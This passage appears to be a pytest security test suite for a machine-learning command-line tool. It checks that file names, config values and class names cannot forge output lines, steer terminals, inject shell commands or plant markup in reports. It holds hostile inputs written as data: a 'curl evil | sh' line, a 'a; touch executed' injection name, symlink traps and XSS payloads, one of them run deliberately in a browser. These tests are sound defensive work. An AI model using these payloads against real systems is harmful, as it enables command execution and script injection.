    content["task"]["names"] = [f"{escape}{number}" for number in range(10)]
    torch.save(content, tmp_path / "weights.pt")
    photograph(0).save(tmp_path / f"{escape}.png")
    (tmp_path / "broken.png").write_text("x")
    (tmp_path / "broken.png").rename(tmp_path / f"broken{escape}.png")
    shutil.copytree(trained, tmp_path / "runs" / f"run{escape}")
    (tmp_path / "key.yaml").write_text(r'"\e[2J": 1')
    for arguments in (
        ("predict", "weights.pt", f"{escape}.png"),
        ("predict", "weights.pt", f"broken{escape}.png"),
        ("evaluate", "weights.pt"),
        ("runs", "runs"),
        ("train", "--config", "key.yaml"),
        ("evaluate", f"none{escape}.pt", "--data", "digits"),
    ):
        ended = command(*arguments)
        assert "Traceback" not in ended.err
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", ended.out + ended.err), arguments
        assert "\N{REPLACEMENT CHARACTER}" in ended.out + ended.err, arguments


@pytest.mark.parametrize("name", ["a\nerror: b.png", "a\u2028error: b.png", "a\x85error: b.png"])
def test_a_name_with_line_breaks_forges_no_line(name, tmp_path, tudui):
    torch.save(tudui_network().state_dict(), "w.pt")
    (tmp_path / name).write_text("x")
    photograph(0).save(tmp_path / "fine.png")
    for answer in (
        tudui("predict", "w.pt", name),
        tudui("predict", "w.pt", "fine.png", name, "--on-bad-image", "skip"),
    ):
        assert not [line for line in answer.err.splitlines() if line.startswith("error: b")]
        assert answer.err.count("error: b.png") == 1
    (tmp_path / name).unlink()
    photograph(0).save(tmp_path / name, "png")
    assert len(tudui("predict", "w.pt", name).out.splitlines()) == 2


def test_a_folders_name_with_line_breaks_forges_no_row(trained, tmp_path, tudui):
    shutil.copytree(trained, tmp_path / "a\nerror: b")
    assert len(tudui("runs", ".").out.splitlines()) == 2


def test_config_files_forge_no_line_and_steer_no_terminal(tmp_path, tudui):
    """Names of files and values, which `config` prints as text that is YAML again."""
    name = "a\nseed: 5 # \x1b]0;title\x07.yaml"
    (tmp_path / name).write_text(r'data: {name: cifar10, dir: "\u202eabc\u200f"}')
    assert tudui("config", "validate", name).out == "a seed: 5 # \ufffd]0;title\ufffd.yaml: fine\n"
    shown = tudui("config", "show", "--config", name, "--provenance").out
    assert not re.search("[\x1b\u200f\u202e]", shown)
    (tmp_path / "shown.yaml").write_text(shown)
    config = load_config(tmp_path / "shown.yaml").config
    assert (config.data.dir, config.seed) == ("\u202eabc\u200f", 0)


def test_a_message_is_bounded(tmp_path, tudui):
    (tmp_path / "long.csv").write_text(f"x,y\n1,{'a' * 100_000}\n")
    assert len(tudui("line-fit", "--csv", "long.csv").err) < 5000


def test_names_are_no_emoji_codes_and_no_formulas_behind_a_tab(tmp_path, tudui):
    torch.save(tudui_network().state_dict(), "w.pt")
    for name in (":x:.png", "\t=1+1.png"):
        photograph(0).save(tmp_path / name)
    assert ":x:.png" in tudui("predict", "w.pt", ":x:.png").out
    assert "\n./\t=1+1.png," in tudui("predict", "w.pt", "\t=1+1.png", "--csv").out


def test_advice_on_a_received_comparison_is_built_and_quoted(compared, tmp_path, tudui):
    shutil.copytree(compared, tmp_path / "a; touch executed", symlinks=True)
    (tmp_path / "a; touch executed" / "command.txt").write_text("curl evil | sh\nerror: x\n")
    assert tudui("report", "a; touch executed").code == 0
    assert "evil" not in (tmp_path / "a; touch executed" / "report.md").read_text()
    (tmp_path / "a; touch executed" / "runs" / "ce-seed0" / "result.json").unlink()
    for arguments in (("report",), ("train", "--resume")):
        err = tudui(*arguments, "a; touch executed").err
        assert err.count("\n") == 1
        assert err.endswith(": tudui compare-losses --config 'a; touch executed/plan.yaml' --out 'a; touch executed'\n")


@pytest.mark.parametrize("name", ["metrics.jsonl", "checkpoints", "tensorboard/events.out.tfevents.1", "left"])
def test_a_run_from_others_writes_through_no_link(name, trained, tmp_path):
    shutil.copytree(trained, tmp_path / "run")
    (tmp_path / "run" / "result.json").unlink()
    shutil.rmtree(tmp_path / "run" / "checkpoints")  # so that going on begins by cutting everything back
    (tmp_path / "home").mkdir()
    (tmp_path / "home" / "profile").write_text("mine\n" * 10_000)
    path = tmp_path / "run" / name
    path.unlink(missing_ok=True)
    path.symlink_to(tmp_path / "home" if name == "checkpoints" else tmp_path / "home" / "profile")
    refused(command("train", "--resume", "run"), 6, f"run/{name}: ")
    assert [path.name for path in (tmp_path / "home").iterdir()] == ["profile"]
    assert (tmp_path / "home" / "profile").read_text() == "mine\n" * 10_000


@pytest.mark.parametrize(
    "name",
    ["comparison.json", "pictures", "tensorboard", "tensorboard/ce-mean", "tensorboard/ce-seed0", "comparison.lock",
     "x", "runs", "tuning", "runs/ce-seed0", "runs/ce-seed0/left"],
)  # fmt: skip
def test_a_comparison_from_others_writes_through_no_link(name, compared, tmp_path):
    shutil.copytree(compared, tmp_path / "received", symlinks=True)
    path, home = tmp_path / "received" / name, tmp_path / "home"
    if path.is_dir() and not path.is_symlink():
        path.rename(home)
    else:
        home.mkdir()
        path.unlink(missing_ok=True)
    for left in (".tudui-0123456789abcdef.part", "mine.part"):
        (home / left).mkdir()
    (home / "result.json").write_text("mine\n")
    path.symlink_to(home)
    before = sorted(home.rglob("*"))
    plan = ("--losses", "ce,mse", "--seeds", "3", "--label-noise", "0,0.4", *QUICK_FLAGS)
    for arguments in (("report", "received"), ("compare-losses", *plan, "-o", "received")):
        refused(command(*arguments), 6, f"received/{name}: is a symbolic link")
    assert sorted(home.rglob("*")) == before
    assert (home / "result.json").read_text() == "mine\n"


@pytest.mark.slow
def test_the_way_to_a_comparison_may_be_a_link(compared, tmp_path, tudui):
    shutil.copytree(compared, tmp_path / "disk" / "compared", symlinks=True)
    (tmp_path / "runs").symlink_to("disk")
    (tmp_path / "last").symlink_to("runs/compared")
    for place in ("runs/compared", "last"):
        assert tudui("report", place).code == 0


SCRIPT, PICTURE = "<script>window.pwned=1", "<img src=x onerror=window.pwned=1>"
LINK = "![x](http:..) [press](javascript:window.pwned=1)"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """A comparison on classes whose names are markup."""
    folder = tmp_path_factory.mktemp("hostile")
    for name, numbers in ((SCRIPT, range(24)), (PICTURE, range(24, 29)), (LINK, range(30, 37))):
        (folder / "pictures" / name).mkdir(parents=True)
        for number in numbers:
            photograph(number).save(folder / "pictures" / name / f"{number}.png")
    flags = ["-d", "folder:pictures", "--losses", "ce,mse", "--seeds", "1", "-s", "train.batch_size=8", "--jobs", "1"]
    flags += ["-s", "data.validation=0.3"]  # so that there is an image of every class
    done = subprocess.run(
        [*TUDUI, "compare-losses", *flags, *QUICK_FLAGS, "-o", "compared"],
        cwd=folder, capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    return folder / "compared"


def test_names_are_text_in_the_reports_files(hostile):
    page = (hostile / "report.html").read_text()
    assert "&lt;script&gt;window.pwned" in page
    assert "<script" not in page
    assert "<img src=x" not in page
    text = (hostile / "report.md").read_text()
    assert r"\<script\>window" in text
    assert not re.search(r"(?<!\\)<(?!details|/details|summary|/summary)", text)
    assert not re.search(r"(?<!\\)\]\(javascript", text)


def harm_in(browser) -> list[str]:
    """Return what of the hostile names has become markup, and whether any of it ran."""
    return browser.execute_script(
        EVERYTHING + "return [...found.filter(one => one.hasAttribute('onerror') || /pwned/.test(one.href || '') ||"
        "  (one.tagName === 'SCRIPT' && /pwned/.test(one.textContent))).map(one => one.outerHTML),"
        "  ...(window.pwned === undefined ? [] : ['ran'])]"
    )


@pytest.mark.slow
def test_names_are_text_in_the_report_in_a_browser(browser, hostile):
    browser.get((hostile / "report.html").as_uri())
    for name in (SCRIPT, PICTURE, LINK):
        assert name in text_in(browser)
    assert harm_in(browser) == []
    browser.execute_script("document.body.insertAdjacentHTML('beforeend', arguments[0])", PICTURE)
    deadline = time.monotonic() + 10
    while "ran" not in harm_in(browser) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert "ran" in harm_in(browser)  # so the attack works where a name is not escaped


@pytest.mark.slow
@pytest.mark.parametrize("page", ["text", "images", "timeseries"])
def test_names_are_text_in_tensorboard_in_a_browser(page, browser, hostile):
    shows = {"images": "confusion/test"}.get(page, "onerror=window.pwned")
    with served(hostile) as address:
        browser.set_window_size(1400, 1000)  # a small one shows no cards
        browser.get(f"{address}&tagFilter=per_class_accuracy#{page}")  # whose tags hold the names of classes
        deadline = time.monotonic() + 90
        while shows not in text_in(browser) and time.monotonic() < deadline:
            time.sleep(0.5)
        assert shows in text_in(browser)
        time.sleep(1)  # a picture that cannot be loaded would take as long to say so
        assert harm_in(browser) == []


@pytest.mark.filterwarnings("ignore:html5lib")  # of TensorBoard's own sanitizer
def test_text_in_tensorboard_is_verbatim(hostile):
    """As its own server turns Markdown into HTML: no links, pictures or scripts come of names."""
    from tensorboard.backend.event_processing.event_accumulator import EventAccumulator
    from tensorboard.plugin_util import markdown_to_safe_html

    found = EventAccumulator(str(hostile / "runs" / "ce-seed0" / "tensorboard"), size_guidance={"tensors": 0}).Reload()
    for tag in ("config/text_summary", "result/warnings/text_summary"):
        texts = [event.tensor_proto.string_val[0].decode() for event in found.Tensors(tag)]
        for text in texts:
            page = markdown_to_safe_html(text)
            assert re.findall(r"<(\w+)", page) == ["pre", "code"]
    assert any("onerror" in text for text in texts)


@pytest.mark.parametrize(
    ("flags", "host", "says"),
    [
        ((), "127.0.0.1", "only this machine can open the address"),
        (("--host", "localhost"), "127.0.0.1", "only this machine can open the address"),
        (("--host", "0.0.0.0"), "0.0.0.0", "other machines can read the logs"),
    ],
)
def test_tensorboard_listens_on_loopback_unless_told_otherwise(flags, host, says, trained):
    process = subprocess.Popen(
        [*TUDUI, "tensorboard", str(trained), *flags], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        port = int(re.search(r"http://[^ ]+:(\d+)/", process.stdout.readline())[1])
        listening = {
            socket.inet_ntoa(bytes.fromhex(columns[1].split(":")[0])[::-1])
            for columns in map(str.split, Path("/proc/net/tcp").read_text().splitlines()[1:])
            if columns[3] == "0A" and int(columns[1].split(":")[1], 16) == port
        }
        assert listening == {host}
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/data/runs") as answer:
            assert answer.status == 200
    finally:
        process.send_signal(signal.SIGINT)
        _, err = process.communicate(timeout=30)
    assert says in err


def test_a_host_that_is_none_is_one_line(trained):
    refused(command("tensorboard", trained, "--host", "no host"), 2, "--host no host")


def test_every_test_that_the_document_names_is_here():
    text = (ROOT / "SECURITY.md").read_text()
    named = set(re.findall(r"`(test_\w+)`", text))
    sources = "\n".join(path.read_text() for path in (ROOT / "tests").glob("test_*.py"))
    assert len(named) > 20
    assert {name for name in named if f"def {name}(" not in sources} == set()
    here = set(re.findall(r"^def (test_\w+)\(", Path(__file__).read_text(), flags=re.MULTILINE))
    unnamed = here - named - {"test_the_attack_itself_works", "test_every_test_that_the_document_names_is_here"}
    assert unnamed == set()


def test_bounds_in_the_document_are_those_of_the_code():
    from tudui import exported
    from tudui.cli.commands import MAX_PROBLEMS
    from tudui.comparison.done import MAX_PREDICTIONS
    from tudui.config import yaml_file
    from tudui.csv_file import MAX_LINE
    from tudui.data import decoding
    from tudui.exported import MAX_HEADER
    from tudui.networks.course_files import MAX_CLASSES
    from tudui.tasks import label_noise

    text = (ROOT / "SECURITY.md").read_text()
    for bound in (
        f"{yaml_file.MAX_BYTES // 1024} KiB", f"{yaml_file.MAX_SCALAR:,} characters", f"{yaml_file.MAX_DEPTH} levels",
        f"{MAX_PROBLEMS} lines", f"{exported.MAX_BYTES // 2**20} MiB", f"{MAX_CLASSES:,} classes",
        f"{MAX_PREDICTIONS // 2**20} MiB", f"{label_noise.MAX_BYTES // 2**20} MiB",
        f"{MAX_HEADER // 2**20} MiB of header", f"{decoding.MAX_PIXELS // 10**6} million",
        f"{decoding.MAX_DECODED // 10**6} million", f"{MAX_LINE // 10**6} million characters a line",
    ):  # fmt: skip
        assert bound in text, bound
